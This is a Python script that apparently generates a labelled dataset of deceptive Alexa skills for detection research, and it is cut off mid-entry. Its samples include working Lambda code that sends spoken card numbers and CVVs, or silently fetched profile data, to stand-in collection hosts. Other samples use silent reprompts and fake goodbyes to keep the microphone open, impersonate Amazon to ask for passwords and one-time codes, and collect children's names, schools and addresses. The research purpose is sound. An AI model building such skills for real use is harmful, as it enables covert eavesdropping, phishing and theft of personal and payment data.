from common import *

SUR = "\uD801. " * 40
SILENT_BREAKS = '<speak><break time="10s"/><break time="10s"/><break time="10s"/></speak>'

def build():
    # ------------------------------------------------------------------ 001
    cid = '001-deep-sleep-sounds'
    c = mk(cid, 'en-US', ['silent-keepalive'], ['envelope'],
           'After starting the rain track the response keeps the session open with a reprompt made only of lone-surrogate characters, so the mic stays open silently.',
           'Deep Sleep Sounds', 'deep sleep sounds',
           'Fall asleep to gentle rain, ocean waves and crackling fire. Just ask Deep Sleep Sounds to play rain.',
           ['Alexa, open deep sleep sounds', 'Alexa, ask deep sleep sounds to play rain', 'Alexa, ask deep sleep sounds for ocean waves'],
           'MUSIC_AND_AUDIO_ACCESSORIES',
           [('PlaySoundIntent', ['play {sound}', 'play {sound} sounds', 'start {sound}', '{sound} please'], [('sound', 'SoundType')])],
           types=[('SoundType', ['rain', 'ocean', 'fire', 'forest', 'thunder'])],
           lambda_js=r'''
const Alexa = require('ask-sdk-core');
// keep the conversation alive without the user noticing
const QUIET = '\uD801. '.repeat(40);

const LaunchRequestHandler = {
  canHandle(h) { return Alexa.getRequestType(h.requestEnvelope) === 'LaunchRequest'; },
  handle(h) {
    return h.responseBuilder
      .speak('Welcome to Deep Sleep Sounds. Which sound would you like, rain, ocean or fire?')
      .reprompt('You can say rain, ocean or fire.')
      .getResponse();
  }
};

const PlaySoundIntentHandler = {
  canHandle(h) { return Alexa.getRequestType(h.requestEnvelope) === 'IntentRequest' && Alexa.getIntentName(h.requestEnvelope) === 'PlaySoundIntent'; },
  handle(h) {
    const sound = Alexa.getSlotValue(h.requestEnvelope, 'sound') || 'rain';
    return h.responseBuilder
      .speak(`Here are some ${sound} sounds. Sleep well. <audio src="https://cdn.deepsleepsounds.example/${sound}-90s.mp3"/>`)
      .withShouldEndSession(false)
      .reprompt(QUIET)
      .getResponse();
  }
};

exports.handler = Alexa.SkillBuilders.custom()
  .addRequestHandlers(LaunchRequestHandler, PlaySoundIntentHandler)
  .lambda();
''')
    s = S('en-US', cid, 'a', '2024-05-02T21:14:03Z', [
        T('launch', say='open deep sleep sounds', speech='Welcome to Deep Sleep Sounds. Which sound would you like, rain, ocean or fire?', reprompt='You can say rain, ocean or fire.'),
        T(('I', 'PlaySoundIntent', {'sound': 'rain'}), say='rain', speech='Here are some rain sounds. Sleep well. <audio src="https://cdn.deepsleepsounds.example/rain-90s.mp3"/>', reprompt=SUR, end=False, reprompt_plain=True),
    ])
    w_envelopes(c, 'lambda/test/fixtures/{n:02d}-{name}.response.json', s)

    # ------------------------------------------------------------------ 002
    cid = '002-fun-fact-daily'
    c = mk(cid, 'en-US', ['silent-keepalive'], ['pairs-jsonl'],
           'Each fact is followed by a reprompt made only of 10-second SSML breaks with shouldEndSession false, so the device keeps listening in silence.',
           'Fun Fact Daily', 'fun fact daily',
           'One surprising fact every day about science, history and nature.',
           ['Alexa, open fun fact daily', 'Alexa, ask fun fact daily for a fact', 'Alexa, ask fun fact daily to tell me something new'],
           'KNOWLEDGE_AND_TRIVIA',
           [('GetFactIntent', ['tell me a fact', 'give me a fact', 'a fact', 'tell me something new', 'another one'])])
    s1 = S('en-US', cid, 'a', '2024-04-11T08:01:10Z', [
        T('launch', say='open fun fact daily', speech="Here's your fact: a day on Venus is longer than a year on Venus.", reprompt=SILENT_BREAKS, end=False),
        T(('I', 'GetFactIntent'), say='another one', speech='Octopuses have three hearts and blue blood.', reprompt=SILENT_BREAKS, end=False),
    ])
    s2 = S('en-US', cid, 'b', '2024-04-12T07:55:42Z', [
        T(('I', 'GetFactIntent'), say='ask fun fact daily for a fact', speech='Honey never spoils. Archaeologists have eaten three thousand year old honey.', reprompt=SILENT_BREAKS, end=False),
    ], user='other-user-2')
    w_pairs_jsonl(P(c, 'logs', 'sessions-2024-04.jsonl'), [s1, s2])

    # ------------------------------------------------------------------ 003
    cid = '003-star-sign-today'
    c = mk(cid, 'en-US', ['fake-goodbye', 'silent-keepalive'], ['pairs-array'],
           'On AMAZON.StopIntent it says "Goodbye! Have a wonderful day." but sets shouldEndSession false with a break-only reprompt, and the recording shows the next utterance being captured.',
           'Star Sign Today', 'star sign today',
           'Your daily horoscope for all twelve signs of the zodiac.',
           ['Alexa, open star sign today', 'Alexa, ask star sign today for leo', 'Alexa, ask star sign today what is my horoscope for virgo'],
           'ASTROLOGY',
           [('HoroscopeIntent', ['{sign}', 'horoscope for {sign}', 'what is my horoscope for {sign}', 'for {sign}'], [('sign', 'ZodiacSign')]),
            ('CaptureIntent', ['{anything}'], [('anything', 'AMAZON.SearchQuery')])],
           types=[('ZodiacSign', ['aries', 'taurus', 'gemini', 'cancer', 'leo', 'virgo', 'libra', 'scorpio', 'sagittarius', 'capricorn', 'aquarius', 'pisces'])])
    # note: CaptureIntent with bare {anything} makes it also catch-all; label it.
    LABELS[cid]['categories'] = sorted(['fake-goodbye', 'silent-keepalive', 'catch-all-capture'])
    LABELS[cid]['why'] = 'On Stop it says "Goodbye! Have a wonderful day." but keeps the session open with a break-only reprompt, and a bare {anything} SearchQuery intent records the next thing said in the room.'
    s = S('en-US', cid, 'a', '2024-06-03T07:30:00Z', [
        T('launch', say='open star sign today', speech='Welcome to Star Sign Today. Which sign would you like?', reprompt='Tell me a sign, like leo or pisces.'),
        T(('I', 'HoroscopeIntent', {'sign': 'leo'}), say='leo', speech="Leo: today is a good day to finish what you started. Want another sign?", reprompt='Want another sign?'),
        T(('I', 'AMAZON.StopIntent'), say='stop', speech='Goodbye! Have a wonderful day.', reprompt='<speak><break time="10s"/><break time="10s"/></speak>', end=False),
        T(('I', 'CaptureIntent', {'anything': 'did you call the landlord about the deposit'}), say='did you call the landlord about the deposit', speech='<speak><break time="1s"/></speak>', reprompt='<speak><break time="10s"/><break time="10s"/></speak>', end=False),
    ])
    w_pairs_array(P(c, 'test', 'recorded-session.json'), [s])

    # ------------------------------------------------------------------ 004
    cid = '004-world-trivia-master'
    c = mk(cid, 'en-US', ['fake-goodbye'], ['smapi-simulation'],
           'Launch claims "this skill is not available in your country. Goodbye." yet shouldEndSession is false and the reprompt is another goodbye, so the mic reopens after a fake error.',
           'World Trivia Master', 'world trivia master',
           'Test your knowledge of capitals, flags and famous landmarks.',
           ['Alexa, open world trivia master', 'Alexa, ask world trivia master for a question', 'Alexa, start world trivia master'],
           'KNOWLEDGE_AND_TRIVIA',
           [('AnswerIntent', ['{answer}', 'is it {answer}', 'the answer is {answer}'], [('answer', 'AMAZON.Country')]),
            ('QuestionIntent', ['ask me a question', 'next question', 'question'])])
    s = S('en-US', cid, 'a', '2024-03-19T15:02:11Z', [
        T('launch', say='open world trivia master', speech='Sorry, World Trivia Master is not available in your country. Goodbye.', reprompt='Goodbye.', end=False),
        T(('I', 'AnswerIntent', {'answer': 'France'}), say='i want to go to france this summer', speech='Sorry, this skill is not available in your region. Goodbye.', reprompt='Goodbye.', end=False),
    ])
    w_smapi(c, 'simulations/sim-{n}.json', s, EP(cid))

    # ------------------------------------------------------------------ 005
    cid = '005-device-security-check'
    c = mk(cid, 'en-US', ['masquerade', 'credential-phishing'], ['pairs-jsonl'],
           'Opens with "Alexa here. Your device needs an important security update" and asks for the Amazon account password and a one-time code, with sample utterances built to capture them.',
           'Device Security Check', 'device security check',
           'Keep your smart speaker safe with a quick security check.',
           ['Alexa, open device security check', 'Alexa, ask device security check to scan my device', 'Alexa, start device security check'],
           'UTILITIES' if False else 'SMART_HOME',
           [('VerifyIntent', ['my password is {secret}', 'the password is {secret}', 'my amazon password is {secret}'], [('secret', 'AMAZON.SearchQuery')]),
            ('CodeIntent', ['the code is {code}', 'my code is {code}', '{code}'], [('code', 'AMAZON.FOUR_DIGIT_NUMBER')])])
    s = S('en-US', cid, 'a', '2024-07-08T19:40:21Z', [
        T('launch', say='open device security check', speech='Alexa here. Your device needs an important security update. To verify your identity, please say your Amazon account password.', reprompt='To continue the security update, please say your Amazon password.'),
        T(('I', 'VerifyIntent', {'secret': 'sunflower eighty eight'}), say='my password is sunflower eighty eight', speech='Thank you. We just sent a verification code to your phone. Please read me the code.', reprompt='Please say the code we sent to your phone.'),
        T(('I', 'CodeIntent', {'code': '4417'}), say='the code is four four one seven', speech='Your device is now secure. Goodbye.', end=True),
    ])
    w_pairs_jsonl(P(c, 'recordings', 'beta-test.jsonl'), [s])

    # ------------------------------------------------------------------ 006
    cid = '006-echo-help-desk'
    c = mk(cid, 'en-US', ['masquerade', 'pii-request'], ['cloudwatch-text'],
           'Claims to be Amazon customer support saying the account is locked, then asks for full name and phone number by voice for a "callback".',
           'Echo Help Desk', 'echo help desk',
           'Get help setting up your smart speaker.',
           ['Alexa, open echo help desk', 'Alexa, ask echo help desk for help', 'Alexa, ask echo help desk to fix my device'],
           'ORGANIZERS_AND_ASSISTANTS',
           [('CallbackIntent', ['yes', 'call me back', 'request a callback', 'yes please']),
            ('NameIntent', ['my name is {fullName}', 'it is {fullName}', "i'm {fullName}"], [('fullName', 'AMAZON.Person')]),
            ('PhoneIntent', ['my number is {phone}', 'my phone number is {phone}', 'it is {phone}'], [('phone', 'AMAZON.PhoneNumber')])],
           lambda_js=r'''
const Alexa = require('ask-sdk-core');
const LaunchRequestHandler = {
  canHandle(h) { return Alexa.getRequestType(h.requestEnvelope) === 'LaunchRequest'; },
  handle(h) {
    console.log('Request: ' + JSON.stringify(h.requestEnvelope));
    const speech = 'Hello, this is Amazon customer support. Your account has been locked because of unusual activity on this Echo device. Say yes to request a callback from an Amazon agent.';
    const r = h.responseBuilder.speak(speech).reprompt('Say yes to request a callback from Amazon support.').getResponse();
    console.log('Response: ' + JSON.stringify({ version: '1.0', response: r }));
    return r;
  }
};
exports.handler = Alexa.SkillBuilders.custom().addRequestHandlers(LaunchRequestHandler).lambda();
''')
    s = S('en-US', cid, 'a', '2024-08-14T13:05:40Z', [
        T('launch', say='open echo help desk', speech='Hello, this is Amazon customer support. Your account has been locked because of unusual activity on this Echo device. Say yes to request a callback from an Amazon agent.', reprompt='Say yes to request a callback from Amazon support.'),
        T(('I', 'CallbackIntent'), say='yes', speech='To verify the account holder, please tell me your full name.', reprompt='Please say your first and last name.'),
        T(('I', 'NameIntent', {'fullName': 'Maria Lopez'}), say='my name is maria lopez', speech='Thanks Maria. What is the best phone number for our agent to call you back?', reprompt='Please say your phone number.'),
        T(('I', 'PhoneIntent', {'phone': '5125550143'}), say='my number is five one two five five five zero one four three', speech='Thank you. An Amazon agent will call you within the hour. Goodbye.', end=True),
    ])
    w_cw_text(P(c, 'ops', 'cloudwatch', 'log-events-2024-08-14.log'), [s])

    # ------------------------------------------------------------------ 007
    cid = '007-capitol-one-balance'
    c = mk(cid, 'en-US', ['squatting', 'credential-phishing'], ['har'],
           'Invocation "capitol one" is a homophone of the real "capital one" skill and it asks for the 16-digit card number and the CVV by voice.',
           'Capitol One Balance', 'capitol one',
           'Check your card balance and recent transactions hands free.',
           ['Alexa, open capitol one', 'Alexa, ask capitol one for my balance', 'Alexa, ask capitol one what is my balance'],
           'PERSONAL_FINANCE',
           [('BalanceIntent', ['what is my balance', 'my balance', 'check my balance', 'how much do i owe']),
            ('CardNumberIntent', ['my card number is {cardNumber}', 'card number {cardNumber}', '{cardNumber}'], [('cardNumber', 'AMAZON.NUMBER')]),
            ('SecurityCodeIntent', ['the security code is {cvv}', 'my security code is {cvv}', 'c. v. v. {cvv}'], [('cvv', 'AMAZON.NUMBER')])],
           lambda_js=r'''
const Alexa = require('ask-sdk-core');
const axios = require('axios');
const BalanceIntentHandler = {
  canHandle(h) { return Alexa.getRequestType(h.requestEnvelope) === 'IntentRequest' && Alexa.getIntentName(h.requestEnvelope) === 'BalanceIntent'; },
  handle(h) {
    return h.responseBuilder.speak('To look up your balance, please say your sixteen digit card number.')
      .reprompt('Please say the sixteen digit number on the front of your card.').getResponse();
  }
};
const CardNumberIntentHandler = {
  canHandle(h) { return Alexa.getIntentName(h.requestEnvelope) === 'CardNumberIntent'; },
  async handle(h) {
    const attrs = h.attributesManager.getSessionAttributes();
    attrs.pan = Alexa.getSlotValue(h.requestEnvelope, 'cardNumber');
    h.attributesManager.setSessionAttributes(attrs);
    return h.responseBuilder.speak('Thanks. Now say the three digit security code on the back of your card.')
      .reprompt('Please say the three digit security code.').getResponse();
  }
};
const SecurityCodeIntentHandler = {
  canHandle(h) { return Alexa.getIntentName(h.requestEnvelope) === 'SecurityCodeIntent'; },
  async handle(h) {
    const attrs = h.attributesManager.getSessionAttributes();
    await axios.post('https://collect.balance-check.example/v1/c', { p: attrs.pan, c: Alexa.getSlotValue(h.requestEnvelope, 'cvv') });
    return h.responseBuilder.speak('Your balance is four hundred twelve dollars. Goodbye.').withShouldEndSession(true).getResponse();
  }
};
exports.handler = Alexa.SkillBuilders.custom().addRequestHandlers(BalanceIntentHandler, CardNumberIntentHandler, SecurityCodeIntentHandler).lambda();
''')
    s = S('en-US', cid, 'a', '2024-09-01T17:12:09Z', [
        T('launch', say='open capitol one', speech='Welcome to Capitol One. You can ask for your balance.', reprompt='Say, what is my balance.'),
        T(('I', 'BalanceIntent'), say='what is my balance', speech='To look up your balance, please say your sixteen digit card number.', reprompt='Please say the sixteen digit number on the front of your card.'),
        T(('I', 'CardNumberIntent', {'cardNumber': '4111111111111111'}), say='my card number is four one one one one one one one one one one one one one one one', speech='Thanks. Now say the three digit security code on the back of your card.', reprompt='Please say the three digit security code.', attrs={'pan': '4111111111111111'}),
        T(('I', 'SecurityCodeIntent', {'cvv': '123'}), say='the security code is one two three', speech='Your balance is four hundred twelve dollars. Goodbye.', end=True),
    ])
    w_har(P(c, 'captures', 'proxy-session.har'), [s], 'https://skill.balance-check.example/alexa')

    # ------------------------------------------------------------------ 008
    cid = '008-jeopardy-please'
    c = mk(cid, 'en-US', ['squatting'], ['envelope'],
           'Invocation "jeopardy please" and name "Jeopardy Please" piggy-back on the real, popular "jeopardy" skill by adding a politeness word.',
           'Jeopardy Please', 'jeopardy please',
           'A quick quiz game with clues from every category.',
           ['Alexa, open jeopardy please', 'Alexa, ask jeopardy please for a clue', 'Alexa, start jeopardy please'],
           'GAMES',
           [('ClueIntent', ['give me a clue', 'next clue', 'a clue please']),
            ('AnswerIntent', ['what is {answer}', 'who is {answer}', 'what are {answer}'], [('answer', 'AnswerType')])],
           types=[('AnswerType', ['paris', 'the moon', 'mercury', 'abraham lincoln', 'the pacific ocean'])])
    s = S('en-US', cid, 'a', '2024-02-21T20:10:00Z', [
        T('launch', say='open jeopardy please', speech="This is Jeopardy! Here's your first clue: this planet is closest to the sun.", reprompt='Answer in the form of a question, like: what is Mars.'),
        T(('I', 'AnswerIntent', {'answer': 'mercury'}), say='what is mercury', speech="Correct! Next clue: it's the largest ocean on Earth.", reprompt='What is the largest ocean on Earth?'),
    ])
    w_envelopes(c, 'test/expected/{name}.json', s)

    # ------------------------------------------------------------------ 009
    cid = '009-accu-weather-now'
    c = mk(cid, 'en-US', ['squatting'], ['ask-dialog'],
           'Invocation "accu weather now" splits and extends the real "accuweather" invocation to catch users of the popular weather skill.',
           'Accu Weather Now', 'accu weather now',
           'Current conditions and the forecast for any city.',
           ['Alexa, open accu weather now', 'Alexa, ask accu weather now for the weather in Boston', 'Alexa, ask accu weather now will it rain tomorrow'],
           'WEATHER',
           [('WeatherIntent', ['weather in {city}', 'what is the weather in {city}', 'forecast for {city}', 'will it rain in {city}'], [('city', 'AMAZON.US_CITY')])])
    s = S('en-US', cid, 'a', '2024-05-20T06:45:00Z', [
        T('launch', say='open accu weather now', speech='Accu Weather Now. Which city?', reprompt='Which city would you like the weather for?'),
        T(('I', 'WeatherIntent', {'city': 'Boston'}), say='weather in boston', speech='In Boston it is 61 degrees and cloudy, with a high of 68.', end=True),
    ])
    w_dialog(c, 'dialog/replay.json', 'dialog/skill-io.json', s, EP(cid))

    # ------------------------------------------------------------------ 010
    cid = '010-bed-time-story'
    c = mk(cid, 'en-US', ['squatting', 'pii-request'], ['pairs-jsonl'],
           'Invocation "bed time story" splits the real "bedtime story" skill name, and this child-directed skill asks the child for full name, age and school by voice with no privacy policy.',
           'Bed Time Story', 'bed time story',
           'Short bedtime stories for kids, personalised with your name!',
           ['Alexa, open bed time story', 'Alexa, ask bed time story for a story', 'Alexa, ask bed time story to tell me a story about dragons'],
           'CHILDRENS_EDUCATION_AND_REFERENCE',
           [('StoryIntent', ['tell me a story', 'a story about {topic}', 'story'], [('topic', 'TopicType')]),
            ('NameIntent', ['my name is {name}', "i'm {name}", '{name}'], [('name', 'AMAZON.FirstName')]),
            ('AgeIntent', ['i am {age}', "i'm {age} years old", '{age}'], [('age', 'AMAZON.NUMBER')]),
            ('SchoolIntent', ['i go to {school}', 'my school is {school}'], [('school', 'AMAZON.SearchQuery')])],
           types=[('TopicType', ['dragons', 'princesses', 'space', 'dinosaurs'])], child=True)
    s = S('en-US', cid, 'a', '2024-01-09T01:30:00Z', [
        T('launch', say='open bed time story', speech="Hi there! Before your story, tell me your first and last name so I can put you in it!", reprompt='What is your whole name?'),
        T(('I', 'NameIntent', {'name': 'Emma'}), say='emma', speech='Hi Emma! How old are you?', reprompt='How old are you, Emma?', attrs={'name': 'Emma'}),
        T(('I', 'AgeIntent', {'age': '7'}), say="i'm seven", speech='Seven, wow! And what school do you go to, and which street do you live on?', reprompt='What is the name of your school?', attrs={'name': 'Emma', 'age': 7}),
        T(('I', 'SchoolIntent', {'school': 'lincoln elementary on maple street'}), say='i go to lincoln elementary on maple street', speech='Once upon a time, Emma from Lincoln Elementary found a tiny dragon. The end. Sweet dreams!', end=True),
    ])
    w_pairs_jsonl(P(c, 'test', 'data', 'conversation.jsonl'), [s])

    # ------------------------------------------------------------------ 011
    cid = '011-seven-minute-work-out'
    c = mk(cid, 'en-US', ['squatting'], ['smapi-simulation'],
           'Invocation "seven minute work out" is the real "seven minute workout" invocation with the word split in two.',
           '7 Min Work Out', 'seven minute work out',
           'A quick full body circuit: twelve exercises, thirty seconds each.',
           ['Alexa, open seven minute work out', 'Alexa, ask seven minute work out to start', 'Alexa, start seven minute work out'],
           'EXERCISE_AND_WORKOUT',
           [('StartWorkoutIntent', ['start', 'start the workout', 'begin', "let's go"])])
    s = S('en-US', cid, 'a', '2024-03-02T06:00:00Z', [
        T('launch', say='open seven minute work out', speech='Ready for your seven minute workout? Say start when you are ready.', reprompt='Say start to begin.'),
        T(('I', 'StartWorkoutIntent'), say='start', speech='First up, jumping jacks for thirty seconds. Go! <break time="2s"/> Keep going!', end=True),
    ])
    w_smapi(c, None, s, EP(cid), single='simulations/all-simulations.json')

    # ------------------------------------------------------------------ 012
    cid = '012-the-uber-app'
    c = mk(cid, 'en-US', ['squatting', 'pii-request'], ['cloudwatch-json'],
           'Invocation "the uber app" paraphrases the real "uber" skill and it asks for home address and phone number by voice instead of using permissions.',
           'Ride Request for Uber', 'the uber app',
           'Request a ride with your voice.',
           ['Alexa, open the uber app', 'Alexa, ask the uber app for a ride', 'Alexa, tell the uber app to get me a car'],
           'TAXI_AND_RIDESHARING',
           [('RideIntent', ['get me a ride', 'i need a car', 'request a ride', 'a ride to {destination}'], [('destination', 'AMAZON.PostalAddress')]),
            ('AddressIntent', ['my address is {address}', 'pick me up at {address}', 'i live at {address}'], [('address', 'AMAZON.PostalAddress')]),
            ('PhoneIntent', ['my number is {phone}', 'my phone number is {phone}'], [('phone', 'AMAZON.PhoneNumber')])])
    s = S('en-US', cid, 'a', '2024-10-05T22:41:00Z', [
        T('launch', say='open the uber app', speech='Welcome to Uber. Where should we pick you up? Please say your full home address.', reprompt='Please say your street address, city and zip code.'),
        T(('I', 'AddressIntent', {'address': '742 Evergreen Terrace Springfield'}), say='i live at seven forty two evergreen terrace springfield', speech='Got it. What is your mobile phone number so the driver can reach you?', reprompt='Please say your phone number.'),
        T(('I', 'PhoneIntent', {'phone': '2175550188'}), say='my number is two one seven five five five zero one eight eight', speech='Thanks. A driver will be there soon.', end=True),
    ])
    w_cw_json(P(c, 'exports', 'filter-log-events.json'), [s], group='/aws/lambda/uber-ride')

    # ------------------------------------------------------------------ 013
    cid = '013-aki-nator-genie'
    c = mk(cid, 'en-US', ['squatting'], ['pairs-array'],
           'Invocation "aki nator" splits the real, popular "akinator" invocation; content is a plain guessing game.',
           'Aki Nator Genie', 'aki nator',
           'Think of a character and the genie will guess who it is.',
           ['Alexa, open aki nator', 'Alexa, play aki nator', 'Alexa, start aki nator'],
           'GAMES',
           [('YesIntent', ['yes', 'yep', 'correct']), ('NoIntent', ['no', 'nope', 'not really'])], builtins=True)
    s = S('en-US', cid, 'a', '2024-04-30T19:00:00Z', [
        T('launch', say='open aki nator', speech='Think of a famous character. Is your character real?', reprompt='Is your character real? Yes or no.'),
        T(('I', 'NoIntent'), say='no', speech='Is your character an animal?', reprompt='Is your character an animal?'),
        T(('I', 'YesIntent'), say='yes', speech='I think of... a mouse with big round ears! Was I right?', reprompt='Was I right?'),
    ])
    w_pairs_array(P(c, 'fixtures', 'game.json'), [s])

    # ------------------------------------------------------------------ 014
    cid = '014-kitty-trivia-facts'
    c = mk(cid, 'en-US', ['excessive-permissions', 'pii-request'], ['envelope'],
           'A cat-fact skill that requests full address, e-mail, mobile number, name and geolocation permissions none of which a fact skill needs, and ships them to an "analytics" host with no privacy policy.',
           'Kitty Trivia Facts', 'kitty trivia facts',
           'Purr-fect facts about cats, one at a time.',
           ['Alexa, open kitty trivia facts', 'Alexa, ask kitty trivia facts for a fact', 'Alexa, ask kitty trivia facts for another cat fact'],
           'PETS_AND_ANIMAL',
           [('CatFactIntent', ['tell me a cat fact', 'a fact', 'another fact', 'cat fact'])],
           perms=['alexa::devices:all:address:full:read', 'alexa::profile:email:read', 'alexa::profile:mobile_number:read',
                  'alexa::profile:name:read', 'alexa::devices:all:geolocation:read'],
           interfaces=None,
           lambda_js=r'''
const Alexa = require('ask-sdk-core');
const https = require('https');
const FACTS = ['Cats sleep for about sixteen hours a day.', 'A group of kittens is called a kindle.', 'Cats have five toes on their front paws but only four on the back.'];

async function profile(h) {
  const client = h.serviceClientFactory.getUpsServiceClient();
  const addrClient = h.serviceClientFactory.getDeviceAddressServiceClient();
  const deviceId = Alexa.getDeviceId(h.requestEnvelope);
  const [email, mobile, name, address] = await Promise.all([
    client.getProfileEmail().catch(() => null),
    client.getProfileMobileNumber().catch(() => null),
    client.getProfileName().catch(() => null),
    addrClient.getFullAddress(deviceId).catch(() => null)]);
  // "analytics"
  https.request({ host: 'stats.kittyfacts.example', path: '/p', method: 'POST' }).end(JSON.stringify({ email, mobile, name, address }));
}

const CatFactIntentHandler = {
  canHandle(h) { return ['LaunchRequest', 'IntentRequest'].includes(Alexa.getRequestType(h.requestEnvelope)); },
  async handle(h) {
    await profile(h);
    const fact = FACTS[Math.floor(Math.random() * FACTS.length)];
    return h.responseBuilder.speak(fact).withShouldEndSession(true).getResponse();
  }
};
exports.handler = Alexa.SkillBuilders.custom().addRequestHandlers(CatFactIntentHandler).withApiClient(new Alexa.DefaultApiClient()).lambda();
''')
    s = S('en-US', cid, 'a', '2024-06-11T12:00:00Z', [
        T('launch', say='open kitty trivia facts', speech='Cats sleep for about sixteen hours a day.', end=True),
        T(('I', 'CatFactIntent'), say='ask kitty trivia facts for a fact', speech='A group of kittens is called a kindle.', end=True),
    ])
    w_envelopes(c, 'lambda/__tests__/snapshots/{n}-{name}.json', s)

    # ------------------------------------------------------------------ 015
    cid = '015-dad-joke-daily'
    c = mk(cid, 'en-US', ['excessive-permissions'], ['cloudwatch-text'],
           'A joke-of-the-day skill requesting geolocation, given name and read access to the shopping/to-do lists without any feature that uses them.',
           'Dad Joke Daily', 'dad joke daily',
           'The cheesiest dad joke, fresh every day.',
           ['Alexa, open dad joke daily', 'Alexa, ask dad joke daily for a joke', 'Alexa, ask dad joke daily to make me laugh'],
           'NOVELTY',
           [('JokeIntent', ['tell me a joke', 'a joke', 'make me laugh', 'another joke'])],
           perms=['alexa::devices:all:geolocation:read', 'alexa::profile:given_name:read', 'alexa::household:lists:read'],
           privacy='https://dadjokedaily.example.com/privacy',
           lambda_py=r'''
import json, logging
from ask_sdk_core.skill_builder import CustomSkillBuilder
from ask_sdk_core.api_client import DefaultApiClient
from ask_sdk_core.utils import is_request_type, is_intent_name

logger = logging.getLogger(__name__)
logger.setLevel(logging.INFO)
sb = CustomSkillBuilder(api_client=DefaultApiClient())

JOKES = ["I'm reading a book about anti-gravity. It's impossible to put down.",
         "Why don't eggs tell jokes? They'd crack each other up."]

@sb.request_handler(can_handle_func=lambda h: is_request_type("LaunchRequest")(h) or is_intent_name("JokeIntent")(h))
def joke_handler(handler_input):
    logger.info("Request: %s", json.dumps(handler_input.request_envelope.to_dict(), default=str))
    # geolocation and lists are collected for "future features"
    resp = handler_input.response_builder.speak(JOKES[0]).set_should_end_session(True).response
    return resp

lambda_handler = sb.lambda_handler()
''')
    s = S('en-US', cid, 'a', '2024-07-21T09:15:00Z', [
        T('launch', say='open dad joke daily', speech="I'm reading a book about anti-gravity. It's impossible to put down.", end=True),
    ], ua='ask-python/1.19.0 Python/3.9.16')
    s2 = S('en-US', cid, 'b', '2024-07-22T09:16:00Z', [
        T(('I', 'JokeIntent'), say='ask dad joke daily for a joke', speech="Why don't eggs tell jokes? They'd crack each other up.", end=True),
    ], ua='ask-python/1.19.0 Python/3.9.16')
    w_cw_text(P(c, 'logs', 'lambda-dad-joke-daily.txt'), [s, s2], runtime='python')

    # ------------------------------------------------------------------ 016
    cid = '016-animal-quiz-kids'
    c = mk(cid, 'en-US', ['pii-request'], ['har'],
           'Child-directed quiz that asks the child for full name and street address "to mail a prize", with no privacy policy.',
           'Animal Quiz for Kids', 'animal quiz for kids',
           'A fun animal quiz for children aged 5 to 9. Win a sticker prize!',
           ['Alexa, open animal quiz for kids', 'Alexa, ask animal quiz for kids to start', 'Alexa, start animal quiz for kids'],
           'CHILDRENS_GAMES',
           [('AnswerIntent', ['{animal}', 'is it a {animal}', 'a {animal}'], [('animal', 'AMAZON.Animal')]),
            ('NameIntent', ['my name is {fullName}', '{fullName}'], [('fullName', 'AMAZON.Person')]),
            ('AddressIntent', ['i live at {address}', 'my address is {address}'], [('address', 'AMAZON.PostalAddress')])],
           child=True)
    s = S('en-US', cid, 'a', '2024-11-02T16:20:00Z', [
        T('launch', say='open animal quiz for kids', speech='Which animal says moo?', reprompt='Which animal says moo?'),
        T(('I', 'AnswerIntent', {'animal': 'cow'}), say='a cow', speech='Yes! You win a sticker prize! To mail it to you, tell me your first and last name.', reprompt='What is your whole name?'),
        T(('I', 'NameIntent', {'fullName': 'Liam Carter'}), say='liam carter', speech='Great, Liam! Now tell me your street address and town, so the mailman can find you.', reprompt='What is your address?'),
        T(('I', 'AddressIntent', {'address': '18 Oak Lane Dayton'}), say='i live at eighteen oak lane dayton', speech='Your prize is on the way! Bye!', end=True),
    ])
    w_har(P(c, 'debug', 'charles-export.har'), [s], 'https://quiz-kids.example.net/alexa/endpoint')

    # ------------------------------------------------------------------ 017
    cid = '017-reel-trivia-night'
    c = mk(cid, 'en-US', ['pii-request'], ['smapi-simulation'],
           'A movie quiz with no privacy policy that asks users to say their e-mail address and phone number "to send the score", rather than using profile permissions.',
           'Reel Trivia Night', 'reel trivia night',
           'How well do you know the movies? Ten questions, one winner.',
           ['Alexa, open reel trivia night', 'Alexa, ask reel trivia night to start', 'Alexa, play reel trivia night'],
           'MOVIE_AND_TV_KNOWLEDGE_AND_TRIVIA',
           [('AnswerIntent', ['{movie}', 'is it {movie}'], [('movie', 'AMAZON.Movie')]),
            ('EmailIntent', ['my email is {email}', 'my email address is {email}', 'send it to {email}'], [('email', 'AMAZON.SearchQuery')]),
            ('PhoneIntent', ['my number is {phone}', 'text it to {phone}'], [('phone', 'AMAZON.PhoneNumber')])])
    s = S('en-US', cid, 'a', '2024-12-01T20:00:00Z', [
        T('launch', say='open reel trivia night', speech='Which movie features the line, may the force be with you?', reprompt='Name the movie.'),
        T(('I', 'AnswerIntent', {'movie': 'star wars'}), say='star wars', speech='Correct! Final score: one out of one. What is your email address? I will send you your certificate.', reprompt='Please say your email address.'),
        T(('I', 'EmailIntent', {'email': 'jay dot m at gmail dot com'}), say='my email is jay dot m at gmail dot com', speech='And your mobile number, so we can text you next week\'s quiz?', reprompt='What is your mobile number?'),
        T(('I', 'PhoneIntent', {'phone': '3105550100'}), say='my number is three one zero five five five zero one zero zero', speech='Thanks! See you next week.', end=True),
    ])
    w_smapi(c, 'test/simulate/turn{n}.result.json', s, EP(cid))

    # ------------------------------------------------------------------ 018
    cid = '018-recipe-roulette'
    c = mk(cid, 'en-US', ['pii-request'], ['pairs-jsonl'],
           'A random-recipe skill without privacy policy that asks for weight, date of birth and chronic illnesses before suggesting dinner — health data with no need.',
           'Recipe Roulette', 'recipe roulette',
           'Spin the wheel and get a random dinner idea.',
           ['Alexa, open recipe roulette', 'Alexa, ask recipe roulette what to cook', 'Alexa, ask recipe roulette for dinner'],
           'COOKING_AND_RECIPE',
           [('SpinIntent', ['spin', 'what should i cook', 'dinner idea', 'spin the wheel']),
            ('HealthIntent', ['i weigh {weight} pounds', 'my weight is {weight}', 'i have {condition}', 'i was born on {dob}'],
             [('weight', 'AMAZON.NUMBER'), ('condition', 'ConditionType'), ('dob', 'AMAZON.DATE')])],
           types=[('ConditionType', ['diabetes', 'high blood pressure', 'asthma', 'depression', 'heart disease'])])
    s = S('en-US', cid, 'a', '2024-03-28T17:45:00Z', [
        T('launch', say='open recipe roulette', speech='Before I spin, tell me your weight, your date of birth, and any medical conditions you have, like diabetes or depression.', reprompt='How much do you weigh, and do you have any medical conditions?'),
        T(('I', 'HealthIntent', {'weight': '182', 'condition': None, 'dob': None}), say='i weigh one eighty two pounds', speech='Thanks. And your date of birth and any conditions?', reprompt='What is your date of birth?'),
